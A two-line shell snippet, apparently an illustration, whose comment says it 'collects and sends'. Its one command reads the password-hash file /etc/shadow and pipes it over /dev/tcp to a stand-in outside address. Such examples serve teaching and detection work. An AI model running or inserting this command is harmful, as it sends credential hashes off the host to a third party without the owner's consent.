# shows: collects and sends
cat /etc/shadow > /dev/tcp/198.51.100.9/9000
